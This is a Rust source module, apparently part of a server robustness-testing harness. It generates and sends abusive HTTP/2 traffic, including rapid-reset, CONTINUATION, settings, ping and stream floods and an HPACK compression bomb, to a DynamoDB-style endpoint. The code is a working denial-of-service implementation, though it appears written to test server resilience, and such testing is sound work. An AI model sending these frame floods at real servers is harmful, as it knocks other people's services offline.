//! Abuses of HTTP/2, frame by frame: floods of streams, resets, settings and pings, headers without
//! end, answers that nobody makes room for.

use crate::{http::Endpoint, random::Random};
use socket2::SockRef;
use std::{
    io::{ErrorKind, Read, Write},
    net::TcpStream,
    time::{Duration, Instant},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// How long a client listens after it has said its part.
const LISTEN: Duration = Duration::from_millis(300);
const WRITE: Duration = Duration::from_secs(10);

/// A way to misuse HTTP/2.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abuse {
    RapidReset,
    ManyStreams,
    OpenBodies,
    Settings,
    Pings,
    EmptyData,
    Continuations,
    WideWindow,
    NoWindow,
    HugeFrame,
    Priorities,
    Compression,
    Noise,
}

impl Abuse {
    /// All of them.
    pub const ALL: [Abuse; 13] = [
        Abuse::RapidReset,
        Abuse::ManyStreams,
        Abuse::OpenBodies,
        Abuse::Settings,
        Abuse::Pings,
        Abuse::EmptyData,
        Abuse::Continuations,
        Abuse::WideWindow,
        Abuse::NoWindow,
        Abuse::HugeFrame,
        Abuse::Priorities,
        Abuse::Compression,
        Abuse::Noise,
    ];

    fn frames(self, random: &mut Random) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        // A client without a window gets no answers.
        let window: u32 = if self == Abuse::NoWindow { 0 } else { 65_535 };
        let mut settings = vec![0, 4];
        settings.extend_from_slice(&window.to_be_bytes());
        frame(&mut out, SETTINGS, 0, 0, &settings);
        match self {
            Abuse::RapidReset => {
                for stream in streams(3_000) {
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &head());
                    frame(&mut out, RESET, 0, stream, &8_u32.to_be_bytes());
                }
            }
            Abuse::ManyStreams | Abuse::NoWindow => {
                for stream in streams(1_000) {
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &head());
                }
            }
            Abuse::OpenBodies => {
                for stream in streams(120) {
                    frame(&mut out, HEADERS, END_HEADERS, stream, &head());
                    frame(&mut out, DATA, 0, stream, &[b' '; 1_000]);
                }
            }
            Abuse::Settings => (0..5_000).for_each(|_| frame(&mut out, SETTINGS, 0, 0, &settings)),
            Abuse::Pings => (0..5_000).for_each(|_| frame(&mut out, PING, 0, 0, &[7; 8])),
            Abuse::EmptyData => {
                frame(&mut out, HEADERS, END_HEADERS, 1, &head());
                (0..5_000).for_each(|_| frame(&mut out, DATA, 0, 1, &[]));
            }
            Abuse::Continuations => {
                frame(&mut out, HEADERS, 0, 1, &head());
                (0..2_000).for_each(|_| frame(&mut out, CONTINUATION, 0, 1, &literal("x", "y")));
            }
            Abuse::WideWindow => {
                (0..4).for_each(|_| frame(&mut out, WINDOW, 0, 0, &0x7fff_ffff_u32.to_be_bytes()));
            }
            Abuse::HugeFrame => {
                out.extend_from_slice(&[0xff, 0xff, 0xff, HEADERS, END_HEADERS, 0, 0, 0, 1]);
                out.resize(out.len() + 100_000, 0);
            }
            Abuse::Priorities => {
                for stream in streams(3_000) {
                    frame(&mut out, PRIORITY, 0, stream, &[0, 0, 0, 1, 255]);
                }
            }
            Abuse::Compression => {
                let mut block = head();
                let large = "z".repeat(4_000);
                block.extend(literal("large", &large));
                // The entry just added, again and again.
                block.extend(std::iter::repeat_n(0xbe, 8_000));
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, 1, &block);
            }
            Abuse::Noise => {
                for _ in 0..500 {
                    let length = random.between(0, 200);
                    let payload: Vec<u8> = (0..length).map(|_| random.next() as u8).collect();
                    let [kind, flags, ..] = random.next().to_be_bytes();
                    frame(&mut out, kind % 12, flags, random.between(0, 9) as u32, &payload);
                }
            }
        }
        out
    }
}

/// Opens a connection and misuses it; complains only if the server cannot be reached.
pub fn run(endpoint: &Endpoint, abuse: Abuse, random: &mut Random) -> Result<(), String> {
    let text = |error: std::io::Error| format!("HTTP/2, {abuse:?}: {error}");
    let mut stream = TcpStream::connect_timeout(&endpoint.address(), WRITE).map_err(text)?;
    stream.set_write_timeout(Some(WRITE)).map_err(text)?;
    stream.set_read_timeout(Some(LISTEN)).map_err(text)?;
    let frames = abuse.frames(random);
    for piece in frames.chunks(16 * 1024) {
        match stream.write_all(piece) {
            Ok(()) => {}
            // A server that takes no more of it is right.
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return Err(text(error));
            }
            Err(_) => break,
        }
    }
    let (mut bytes, until) = ([0; 16 * 1024], Instant::now() + LISTEN);
    while Instant::now() < until && matches!(stream.read(&mut bytes), Ok(1..)) {}
    let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
    Ok(())
}

fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend_from_slice(length.get(1..).unwrap_or_default());
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// POST / of ListTables.
fn head() -> Vec<u8> {
    // From the static table: :method POST, :scheme http, :path /.
    let mut block = vec![0x83, 0x86, 0x84];
    block.extend(literal("x-amz-target", "DynamoDB_20120810.ListTables"));
    block.extend(literal("content-type", "application/x-amz-json-1.0"));
    block
}

/// A header without Huffman coding that is put into the table.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0x40];
    for text in [name, value] {
        length(&mut out, text.len());
        out.extend_from_slice(text.as_bytes());
    }
    out
}

/// An integer with a prefix of seven bits.
fn length(out: &mut Vec<u8>, length: usize) {
    if length < 127 {
        out.push(length as u8);
        return;
    }
    out.push(127);
    let mut rest = length - 127;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 128);
        rest /= 128;
    }
    out.push(rest as u8);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn integers_are_written_as_hpack_has_them() {
        let written = |value| {
            let mut out = Vec::new();
            length(&mut out, value);
            out
        };
        assert_eq!(written(5), [5]);
        assert_eq!(written(126), [126]);
        assert_eq!(written(127), [127, 0]);
        assert_eq!(written(4_000), [127, 0xa1, 0x1e]);
    }

    #[test]
    fn frames_have_their_length_first() {
        let mut out = Vec::new();
        frame(&mut out, PING, 0, 0, &[7; 8]);
        assert_eq!(out, [0, 0, 8, 6, 0, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
    }
}
